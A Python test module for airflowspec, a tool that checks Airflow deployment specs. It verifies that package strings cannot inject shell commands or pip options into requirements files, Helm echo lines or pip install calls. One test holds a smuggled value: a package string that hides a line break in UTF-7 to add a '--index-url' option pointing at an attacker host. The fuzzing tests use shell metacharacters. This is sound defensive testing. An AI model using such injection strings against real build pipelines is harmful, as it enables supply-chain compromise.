"""Issue 10, defects 3 and 6: a package string can change neither a shell script nor a requirements file.

Every hostile package gets exactly the diagnostics below, for each way a chart carries packages; those
that validate reach pip as written: MWAA's requirements.txt and the community chart's echo lines (built
here as its template builds them; tests/security/test_package_injection.py uses the real chart) are read
back by pip's own requirements-file parser.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from conftest import EXAMPLES
from helpers import load_spec
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from package_corpus import CODES, EVERY_TARGET, HOSTILE, VIEWS, meaning, packages_yaml, pip_reads, run_bash, spec_text
from packaging.requirements import Requirement

from airflowspec import api
from airflowspec.api import declared_targets
from airflowspec.checks.packages import read_package
from airflowspec.spec import EksTarget
from airflowspec.targets import TARGETS
from airflowspec.targets.eks.community_values import compile_values
from airflowspec.targets.eks.package_rules import community_form

COMMUNITY = "targets:\n  eks: {chart: community}\n"


def _validate(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> api.Validation:
    (tmp_path / "spec.yaml").write_text(text, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return api.validate(Path("spec.yaml"))


@pytest.mark.parametrize("view", VIEWS)
def test_hostile_packages_get_exactly_these_diagnostics(
    view: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    airflow_version, targets, expected = VIEWS[view]
    validation = _validate(spec_text(HOSTILE, airflow_version, targets), tmp_path, monkeypatch)
    found = [str(d) for d in validation.diagnostics if d.code in CODES]
    assert found == [f"spec.yaml:{line}:5: error {text}" for line, text in sorted(expected.items())]


def test_a_package_gets_one_error_with_its_reason(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    validation = _validate(spec_text(HOSTILE, "2.8.4", ""), tmp_path, monkeypatch)
    paths = [d.path for d in validation.diagnostics if d.code in CODES]
    assert len(paths) == len(set(paths)) == len(EVERY_TARGET)


def test_mwaa_requirements_read_back_by_pip_are_exactly_the_packages(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    example = (EXAMPLES / "mwaa" / "airflowspec.yaml").read_text(encoding="utf-8")
    kept = _validated(
        re.sub(r"packages:\n(  - .*\n)+", lambda _: packages_yaml(HOSTILE), example), tmp_path, monkeypatch
    )
    spec = tmp_path / "kept.yaml"
    spec.write_text(re.sub(r"packages:\n(  - .*\n)+", lambda _: packages_yaml(kept), example), encoding="utf-8")
    validation, artifacts = api.render(spec, "mwaa")
    assert validation.ok, validation.diagnostics
    requirements = tmp_path / "requirements.txt"
    requirements.write_text(next(a.text for a in artifacts if a.path == "requirements.txt"), encoding="utf-8")
    read, options = pip_reads(requirements, monkeypatch)
    assert read == [meaning(package) for package in kept]
    assert [option.split()[0] for option in options] == ["--constraint"]
    assert len(kept) == len(HOSTILE) - len(EVERY_TARGET)


@pytest.mark.parametrize("name", ["coding=utf-7 x.yaml", "-*- coding: utf-7 -*-.yaml"])
def test_a_spec_file_name_cannot_change_how_pip_decodes_requirements(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """pip decodes requirements.txt in the encoding a comment in its first two lines declares (PEP 263);
    in UTF-7, `+AAo-` is a line break, which would make an option line of a valid package."""
    package = "p @ https://e.com/x+AAo---index-url=https://evil.example/simple"
    example = (EXAMPLES / "mwaa" / "airflowspec.yaml").read_text(encoding="utf-8")
    spec = tmp_path / name
    spec.write_text(re.sub(r"packages:\n(  - .*\n)+", lambda _: packages_yaml([package]), example), encoding="utf-8")
    validation, artifacts = api.render(spec, "mwaa")
    assert validation.ok, validation.diagnostics
    requirements = tmp_path / "requirements.txt"
    requirements.write_bytes(next(a.text for a in artifacts if a.path == "requirements.txt").encode("utf-8"))
    read, options = pip_reads(requirements, monkeypatch)
    assert (read, [option.split()[0] for option in options]) == ([meaning(package)], ["--constraint"])


def test_community_echo_lines_write_exactly_the_packages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The chart's template line, `echo {{ . | squote }} >> requested-packages.txt`, built as Helm builds it."""
    kept = _validated(spec_text(HOSTILE, "2.8.4", COMMUNITY), tmp_path, monkeypatch)
    (tmp_path / "kept.yaml").write_text(spec_text(kept, "2.8.4", COMMUNITY), encoding="utf-8")
    validation = api.validate(tmp_path / "kept.yaml")
    assert validation.ok and validation.spec is not None, validation.diagnostics
    carried = compile_values(validation.spec, validation.spec.targets.eks or EksTarget())["airflow"]["extraPipPackages"]
    script = "".join(f"echo '{package}' >> requested-packages.txt\n" for package in carried)
    work, calls, failure = run_bash(script, tmp_path / "scratch")
    assert "canary" not in calls
    assert not failure
    assert sorted(path.name for path in work.iterdir()) == ["requested-packages.txt"]
    assert (work / "requested-packages.txt").read_text(encoding="utf-8").splitlines() == carried
    read, options = pip_reads(work / "requested-packages.txt", monkeypatch)
    assert (read, options) == ([meaning(package) for package in kept], [])


@pytest.mark.parametrize("package", [p for p in HOSTILE if "'" in p])
def test_the_community_normal_form_is_the_same_requirement(package: str) -> None:
    form = community_form(package)
    if form != package:
        assert "'" not in form
        assert meaning(form) == meaning(package)


def _validated(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The corpus entries that validate in `text` (a spec holding all of HOSTILE)."""
    validation = _validate(text, tmp_path, monkeypatch)
    refused = {d.path[1] for d in validation.diagnostics if d.path[:1] == ("packages",) and d.code in CODES}
    return [package for index, package in enumerate(HOSTILE) if index not in refused]


FRAGMENT = st.text(alphabet="ab-_.:/'\"$(){}`;&|<>*?[]#\\ \t\n\r~!%=@,+^\u2028\x85", max_size=12)
PACKAGES = st.one_of(
    FRAGMENT.map(lambda text: f"p @ https://e.com/{text}"),
    FRAGMENT.map(lambda text: f'p; os_name == "{text}"'),
    FRAGMENT.map(lambda text: f"p; os_name == '{text}'"),
    FRAGMENT.map(lambda text: f"p{text}"),
    FRAGMENT.map(lambda text: f'p;os_name=="{text}"'),
    FRAGMENT.map(lambda text: f"p@https://e.com/{text}"),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(package=PACKAGES)
def test_any_package_a_chart_accepts_reaches_pip_as_written(
    package: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """For each way a package is carried, as the chart's template writes it (Helm's squote, Helm's quote,
    the official image's unquoted expansion): if airflowspec accepts it, bash and pip get it unchanged."""
    assume(isinstance(read_package(package), Requirement))
    scratch = tmp_path_factory.mktemp("carry")
    form = community_form(package)
    if not _refused(package, "targets:\n  eks: {chart: community}\n", "AS327"):
        work, calls, failure = run_bash(f"echo '{form}' >> requested-packages.txt\n", scratch / "echo")
        assert ("canary" in calls, failure) == (False, "")
        assert (work / "requested-packages.txt").read_text(encoding="utf-8") == form + "\n"
        with pytest.MonkeyPatch.context() as monkeypatch:
            assert pip_reads(work / "requested-packages.txt", monkeypatch) == ([meaning(package)], [])
    if not _refused(package, "targets:\n  eks: {chart: community, chartVersion: 8.3.0}\n", "AS327"):
        go_quoted = '"' + form.replace('"', '\\"') + '"'  # Go's %q for printable text without backslashes
        _, calls, failure = run_bash(f"pip install --user {go_quoted}\n", scratch / "quote")
        assert (calls["pip"], failure) == ([["install", "--user", form]], "")
    if not _refused(package, "targets:\n  eks: {chart: official, pipInstallAtStart: true}\n", "AS340"):
        files = "touch p pa pb 'p;' p@ p@a\n"
        script = f"shopt -s extglob\n{files}pip install --no-cache-dir ${{_PIP_ADDITIONAL_REQUIREMENTS}}\n"
        variables = {"_PIP_ADDITIONAL_REQUIREMENTS": package}
        _, calls, failure = run_bash(script, scratch / "unquoted", variables)
        assert (calls["pip"], failure) == ([["install", "--no-cache-dir", package]], "")


def _refused(package: str, targets: str, code: str) -> bool:
    spec = load_spec(packages_yaml([package]) + targets)
    return any(d.code == code for target in declared_targets(spec) for d in TARGETS[target].check(spec))
